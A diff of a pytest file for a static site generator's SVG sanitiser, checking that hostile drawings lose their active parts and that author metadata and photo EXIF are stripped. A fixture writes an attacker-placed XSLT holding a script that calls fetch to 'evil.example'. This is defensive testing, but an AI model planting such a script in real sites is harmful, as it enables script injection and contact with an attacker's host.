@@ -26,15 +26,14 @@ from livesite import LiveSite
 from PIL import Image, ImageChops
 from playwright.sync_api import Browser
 
-from conftest import FIXTURE, NOW, REPO, copy_site
-from litfass.cli import main
+from conftest import FIXTURE, NOW, REPO, TESTS, build, copy_site
 from litfass.commands.common import parse_now
 from litfass.content import svg
 from litfass.engine.builder import Builder
 from litfass.preview.server import SANDBOXED, SANDBOXED_KINDS
 from litfass.site import BuildOptions
 
-FIXTURES = Path(__file__).parent / "fixtures" / "svg"
+FIXTURES = TESTS / "fixtures" / "svg"
 HOSTILE = sorted(path.name for path in (FIXTURES / "hostile").glob("*.svg"))
 REAL = {
     "logo.svg": REPO / "templates/static/logo.svg",  # the theme's own
@@ -101,12 +100,8 @@ def embedded_photo_svg() -> bytes:
     ).encode()
 
 
-def build(site: Path) -> int:
-    return main(["--root", str(site), "--now", NOW])
-
-
 @pytest.fixture(scope="module")
-def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def svg_output(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The fixture site with every hostile and real drawing in content/downloads/, built."""
     site = copy_site(FIXTURE, tmp_path_factory.mktemp("svg"))
     drawings = site / "content/downloads"
@@ -116,19 +111,18 @@ def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
     for name, source in REAL.items():
         shutil.copy(source, drawings / name)
     (drawings / "embedded-photo.svg").write_bytes(embedded_photo_svg())
-    assert build(site) == 0
-    return site / "output"
+    return build(site).output
 
 
 @pytest.fixture(scope="module")
-def served(built: Path) -> Iterator[str]:
+def served(svg_output: Path) -> Iterator[str]:
     """output/ from a plain static server: no Content-Security-Policy, no sandbox; with the
     originals of the real drawings beside it, and an XSLT an attacker placed on the host."""
-    originals = built / "originals"
+    originals = svg_output / "originals"
     originals.mkdir()
     for name, source in REAL.items():
         shutil.copy(source, originals / name)
-    (built / "evil.xsl").write_text(
+    (svg_output / "evil.xsl").write_text(
         '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
         '<xsl:template match="/"><svg xmlns="http://www.w3.org/2000/svg"><script>'
         'document.title = "ran"; fetch("http://evil.example/xslt")</script></svg>'
@@ -140,7 +134,7 @@ def served(built: Path) -> Iterator[str]:
         def log_message(self, format: str, *args: object) -> None:
             pass
 
-    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=built))
+    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=svg_output))
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
     try:
@@ -217,8 +211,8 @@ def test_the_checker_sees_what_each_hostile_drawing_holds() -> None:
 
 
 @pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_drawing_is_published_with_nothing_active(built: Path, name: str) -> None:
-    published = (built / "downloads" / name).read_bytes()
+def test_a_hostile_drawing_is_published_with_nothing_active(svg_output: Path, name: str) -> None:
+    published = (svg_output / "downloads" / name).read_bytes()
     assert active_parts(published) == []
     assert published == svg.clean((FIXTURES / "hostile" / name).read_bytes())
     # Only the drawing is left of it: it still shows its rectangle.
@@ -268,9 +262,9 @@ def screenshot(chromium: Browser, url: str) -> Image.Image:
 @pytest.mark.browser
 @pytest.mark.parametrize("name", sorted(REAL))
 def test_a_real_drawing_looks_the_same_after_it_is_rebuilt(
-    built: Path, served: str, chromium: Browser, name: str
+    svg_output: Path, served: str, chromium: Browser, name: str
 ) -> None:
-    published = (built / "downloads" / name).read_bytes()
+    published = (svg_output / "downloads" / name).read_bytes()
     before = screenshot(chromium, f"{served}/originals/{name}")
     after = screenshot(chromium, f"{served}/downloads/{name}")
     blank = Image.new("RGB", before.size, (255, 255, 255))
@@ -279,19 +273,19 @@ def test_a_real_drawing_looks_the_same_after_it_is_rebuilt(
     assert active_parts(published) == []
 
 
-def test_no_author_metadata_is_published(built: Path) -> None:
-    inkscape = (built / "downloads/inkscape-icon.svg").read_bytes()
+def test_no_author_metadata_is_published(svg_output: Path) -> None:
+    inkscape = (svg_output / "downloads/inkscape-icon.svg").read_bytes()
     for leak in (b"/home/", b"anna", b"Anna", b"sodipodi", b"inkscape", b"Klaus", b"rdf"):
         assert leak not in inkscape, leak
-    illustrator = (built / "downloads/illustrator-logo.svg").read_bytes()
+    illustrator = (svg_output / "downloads/illustrator-logo.svg").read_bytes()
     for leak in (b"GPS", b"52,31", b"xmpmeta", b"Illustrator", b"adobe", b"pgf", b"xmp.did"):
         assert leak not in illustrator, leak
-    chart = (built / "downloads/matplotlib-chart.svg").read_bytes()
+    chart = (svg_output / "downloads/matplotlib-chart.svg").read_bytes()
     assert b"rdf:RDF" not in chart and b"Matplotlib v" not in chart
     for data in (inkscape, illustrator, chart):
         assert b"<!--" not in data and b"<!DOCTYPE" not in data and b"<metadata" not in data
     # A photo drawn into an SVG is encoded again, without its EXIF (camera, GPS).
-    published = lxml.etree.fromstring((built / "downloads/embedded-photo.svg").read_bytes())
+    published = lxml.etree.fromstring((svg_output / "downloads/embedded-photo.svg").read_bytes())
     href = next(published.iter(f"{SVG_NS}image")).get("href")
     photo = Image.open(io.BytesIO(base64.b64decode(href.split(",", 1)[1])))
     assert photo.format == "JPEG" and photo.size == (8, 8)
